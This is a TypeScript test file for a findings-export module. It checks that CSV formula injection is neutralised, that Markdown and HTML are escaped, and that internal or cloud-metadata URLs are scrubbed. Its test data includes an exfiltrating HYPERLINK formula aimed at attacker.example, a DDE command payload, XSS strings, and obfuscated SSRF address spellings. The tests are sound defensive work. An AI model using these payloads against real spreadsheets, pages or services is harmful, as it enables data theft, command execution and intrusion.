import { describe, expect, it } from 'vitest';
import type { DiscoveryData } from '$lib/domain';
import { csvRecord, neutralizeFormula } from './csv';
import { parseCsvStrict } from './csv-test-support';
import type { Finding } from './findings.schema';
import type { ExportMapping } from './export-mapping';
import { buildPortableExport, mdCode, mdEscape } from './portable-export';
import { INTERNAL_URL_REMOVED, isInternalHost, publicUrl, scrubText } from './scrub';

// The portable files are opened by spreadsheets and Markdown viewers we do not control. Every
// value, whatever its source (finding, mapping, or Azure DevOps: project, area and iteration
// paths, type, severity allowed values), is neutralised in CSV and escaped in Markdown, and the
// scrubber drops internal URLs in every spelling the WHATWG parser (a browser) would accept.

// ---- CSV ------------------------------------------------------------------------------------------

const FORMULAS = [
	'=1+1',
	'=HYPERLINK("https://attacker.example/?x="&A1,"click")',
	'+1',
	'+cmd|" /C calc"!A0',
	'-1',
	'-2+3',
	'@SUM(A1:A2)',
	'\t=1',
	'\r=1',
	'\n=1',
	'\tplain',
	'\rplain',
	' =1',
	'   +1',
	'\t \t-1',
	'\u00a0=1',
	'\u3000=1',
	'\uff1d1+1', // fullwidth =
	'\uff0b1', // fullwidth +
	'\uff0d1', // fullwidth -
	'\uff20SUM(1)', // fullwidth @
	'=2-1 Proj'
];

const PLAIN = ['Fabrikam Fiber', '2 - High', 'a=b', 'x-1', 'user@example.com', '', "'=already"];

/** What a spreadsheet would treat as a formula or control start, after our neutralisation. */
function live(cell: string): boolean {
	return /^[\s\u00a0\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/.test(cell);
}

describe('CSV neutralisation', () => {
	it.each(FORMULAS.map((v) => [JSON.stringify(v), v] as const))(
		'%s gets a leading apostrophe',
		(_name, value) => {
			expect(neutralizeFormula(value)).toBe(`'${value}`);
			expect(live(neutralizeFormula(value))).toBe(false);
		}
	);

	it.each(PLAIN)('%j stays as it is', (value) => {
		expect(neutralizeFormula(value)).toBe(value);
	});

	it.each(FORMULAS.map((v) => [JSON.stringify(v), v] as const))(
		'csvRecord neutralises %s in any column',
		(_name, value) => {
			const [record] = parseCsvStrict(`${csvRecord(['ok', value, value])}\r\n`);
			expect(record?.slice(1)).toEqual([`'${value}`, `'${value}`]);
		}
	);
});

// ---- through the export, with hostile values from every source ----------------------------------

const hostileMapping = (v: string): ExportMapping => ({
	organization: 'fabrikam',
	project: `${v} Proj`,
	work_item_type: `${v}Bug`,
	area_path: `${v}Area`,
	iteration_path: `${v}Sprint`,
	priority_mapping: { critical: 1, high: 2, medium: 3, low: 4 },
	severity_mapping: { critical: v, high: v, medium: v, low: v }
});

function hostileDiscovery(m: ExportMapping, severity: string): { data: DiscoveryData; at: string } {
	return {
		at: '2026-11-26T20:00:00.000Z',
		data: {
			project: { id: 'p1', name: m.project ?? '' },
			process: { name: 'Agile', kind: 'system', template_type_id: 't' },
			work_item_types: [
				{
					name: m.work_item_type,
					reference_name: 'Custom.Bug',
					description_field: 'System.Description',
					fields: [
						{
							reference_name: 'Microsoft.VSTS.Common.Severity',
							name: 'Severity',
							always_required: false,
							allowed_values: [severity],
							filled_by_server: false
						}
					]
				}
			],
			areas: { id: 1, name: 'a', path: m.area_path },
			iterations: { id: 2, name: 'i', path: m.iteration_path },
			round_trips: 1
		}
	};
}

const finding = (v: string): Finding =>
	({
		id: 'WRO-F-1',
		source_type: 'report_issue',
		source_id: `${v}src`,
		title: `${v}title`,
		severity: 'high',
		affected_url: null,
		description: `${v}description\n${v}second line`,
		acceptance_criteria: [],
		labels: [`${v}label`, ' -label', '`x` <img src=x onerror=alert(1)>']
	}) as unknown as Finding;

describe('CSV export: every cell, whatever its source', () => {
	it.each(['=', '+', '-', '@', '\t', '\r', ' =', '\t-', '\uff1d'])(
		'a value starting with %j lands neutralised in every column',
		(v) => {
			const m = hostileMapping(v);
			const out = buildPortableExport({
				findings: [finding(v)],
				mapping: m,
				discovery: hostileDiscovery(m, `${v}HYPERLINK("x")`),
				reason: 'chosen',
				sample_data: false,
				generated_at: '2026-11-26T21:00:00.000Z'
			});
			const records = parseCsvStrict(out.files.csv_export.content);
			expect(records.length).toBe(2);
			for (const cell of records.flat()) expect(live(cell), JSON.stringify(cell)).toBe(false);
			// The Azure DevOps values are there, neutralised, not dropped.
			const row = records[1]!;
			expect(row).toContain(`'${v}Area`);
			expect(row).toContain(`'${v}Sprint`);
			expect(row).toContain(`'${v}Bug`);
		}
	);
});

// ---- Markdown -------------------------------------------------------------------------------------

const MARKDOWN_HOSTILE = [
	'`code` then <img src=x onerror=alert(1)>',
	'``double`` and ` single',
	'<script>alert(1)</script>',
	'[click](javascript:alert(1))',
	'![img](https://attacker.example/x.png)',
	'<javascript:alert(1)>',
	'&lt;script&gt;',
	'# heading\n## another',
	'line\r\n<b>next</b>',
	'| a | b |',
	'*bold* _em_ ~~strike~~',
	'$x^2$ @mention',
	'\\`escaped backtick'
];

/** A minimal reading of CommonMark inline code spans: strips them so what is left is text. */
function withoutCodeSpans(line: string): string {
	let out = '';
	let i = 0;
	while (i < line.length) {
		if (line[i] === '\\' && i + 1 < line.length) {
			out += line.slice(i, i + 2);
			i += 2;
			continue;
		}
		if (line[i] === '`') {
			const run = /^`+/.exec(line.slice(i))![0];
			const close = line.indexOf(run, i + run.length);
			// A closing run of exactly the same length, not part of a longer one.
			if (close >= 0 && line[close + run.length] !== '`') {
				i = close + run.length;
				continue;
			}
			out += run;
			i += run.length;
			continue;
		}
		out += line[i];
		i++;
	}
	return out;
}

/** Markup characters left unescaped in plain text (outside code spans). */
function unescapedMarkup(line: string): string[] {
	const text = withoutCodeSpans(line);
	const found: string[] = [];
	for (let i = 0; i < text.length; i++) {
		if (text[i] === '\\') {
			i++;
			continue;
		}
		if ('`<>[]&'.includes(text[i]!)) found.push(text[i]!);
	}
	return found;
}

describe('Markdown escaping', () => {
	it.each(MARKDOWN_HOSTILE)('mdEscape(%j) leaves no markup and no line break', (value) => {
		const escaped = mdEscape(value);
		expect(escaped).not.toMatch(/[\r\n\u2028\u2029]/);
		expect(unescapedMarkup(escaped)).toEqual([]);
	});

	it.each(MARKDOWN_HOSTILE)('mdCode(%j) is one code span nothing inside can close', (value) => {
		const span = mdCode(value);
		expect(withoutCodeSpans(span)).toBe('');
		expect(span).not.toMatch(/[\r\n]/);
	});

	it.each(MARKDOWN_HOSTILE)('the hand-off file interpolates %j only escaped', (v) => {
		const m = hostileMapping(v);
		const out = buildPortableExport({
			findings: [finding(v)],
			mapping: m,
			discovery: hostileDiscovery(m, v),
			reason: v,
			sample_data: false,
			generated_at: '2026-11-26T21:00:00.000Z'
		});
		const md = out.files.markdown_export.content;
		for (const line of md.split('\n')) {
			// Our own markup: "**Column:**" and the affected URL autolink, which publicUrl serialised.
			if (line.startsWith('- affected URL: <https://')) continue;
			expect(unescapedMarkup(line.replace(/^>( |$)/, '')), line).toEqual([]);
			expect(withoutCodeSpans(line)).not.toMatch(/(?<!\\)<(script|img|b)\b/i);
		}
		// Outside code spans (which render literally), no link can form.
		for (const line of md.split('\n'))
			expect(withoutCodeSpans(line)).not.toMatch(/(?<!\\)\]\(|(?<!\\)<[a-z]+:/i);
	});
});

// ---- scrubbing ------------------------------------------------------------------------------------

const INTERNAL_URLS = [
	'http://localhost/x',
	'http://localhost./x',
	'http://LOCALHOST../x',
	'http://app.localhost/x',
	'http://127.0.0.1/x',
	'http://127.1/x',
	'http://2130706433/x', // decimal
	'http://0x7f000001/x', // hex
	'http://0177.0.0.1/x', // octal
	'http://0x7f.0.0.1/x',
	'http://127.0.0.1.:8080/x',
	'http://[::1]/x',
	'http://[0:0:0:0:0:0:0:1]/x',
	'http://[::ffff:127.0.0.1]/x',
	'http://[::ffff:7f00:1]/x',
	'http://[::ffff:169.254.169.254]/x',
	'http://[64:ff9b::a9fe:a9fe]/x', // NAT64 of 169.254.169.254
	'http://[::127.0.0.1]/x', // IPv4-compatible
	'http://[2002:7f00:1::]/x', // 6to4
	'http://[fe80::1]/x',
	'http://[fc00::1]/x',
	'http://[fd00:ec2::254]/latest/meta-data',
	'http://169.254.169.254/latest/meta-data/',
	'http://168.63.129.16/machine?comp=goalstate', // Azure WireServer
	'http://100.100.100.200/latest/meta-data',
	'http://192.0.0.192/opc/v1/instance',
	'http://metadata.google.internal/computeMetadata/v1/',
	'http://metadata/x',
	'http://instance-data/latest',
	'http://10.0.0.5/x',
	'http://172.16.3.4/x',
	'http://192.168.1.1/x',
	'http://100.64.0.1/x',
	'http://0.0.0.0/x',
	'http://0/x',
	'http://198.18.0.1/x',
	'http://192.0.2.1/x',
	'http://fileserver/x',
	'http://tfs.corp/x',
	'http://nas.home.arpa/x',
	'http://127.0.0.1.nip.io/x',
	'http://10.0.0.5.sslip.io/x',
	'https://user:pw@10.0.0.5/x',
	'https://www.example.com@169.254.169.254/x',
	'http:\\\\169.254.169.254\\latest',
	'http:/169.254.169.254/latest',
	'http:169.254.169.254/latest',
	'HTTP://169.254.169.254/latest',
	'http://%31%36%39.254.169.254/latest' // percent-encoded host
];

const BARE_INTERNAL = [
	'169.254.169.254/latest/meta-data',
	'168.63.129.16',
	'10.0.0.5:8080/admin',
	'127.0.0.1',
	'[::1]:8080/x',
	'[fd00:ec2::254]',
	'localhost:3000/x'
];

const PUBLIC_URLS = [
	['https://www.example.com/x', 'https://www.example.com/x'],
	['https://WWW.Example.COM./x?q=1', 'https://www.example.com./x'],
	['http://93.184.216.34/x', 'http://93.184.216.34/x'],
	['https://[2606:4700::1111]/x', 'https://[2606:4700::1111]/x'],
	['https://dev.azure.com/fabrikam', 'https://dev.azure.com/fabrikam']
] as const;

describe('scrubber: internal URLs in every spelling (url-safety address classes)', () => {
	it.each(INTERNAL_URLS)('publicUrl(%s) is null', (url) => {
		expect(publicUrl(url)).toBeNull();
	});

	it.each(INTERNAL_URLS)('scrubText removes %s from free text', (url) => {
		const text = scrubText(`See ${url} for details.`);
		expect(text).toBe(`See ${INTERNAL_URL_REMOVED} for details.`);
	});

	it.each(BARE_INTERNAL)('scrubText removes the bare address %s', (address) => {
		expect(scrubText(`reached ${address} from the scanner.`)).toBe(
			`reached ${INTERNAL_URL_REMOVED} from the scanner.`
		);
	});

	it.each(PUBLIC_URLS)('publicUrl(%s) keeps %s', (url, kept) => {
		expect(publicUrl(url)).toBe(kept);
	});

	it.each(['8.8.8.8', 'version 1.2.3 of jQuery', 'see section 10.0.0.5a', 'example.com'])(
		'scrubText leaves %j alone',
		(text) => {
			expect(scrubText(text)).toBe(text);
		}
	);

	it.each([
		'localhost',
		'localhost.',
		'127.0.0.1',
		'[::1]',
		'168.63.129.16',
		'Metadata.Azure.Internal'
	])('isInternalHost(%s)', (host) => {
		expect(isInternalHost(host)).toBe(true);
	});
});
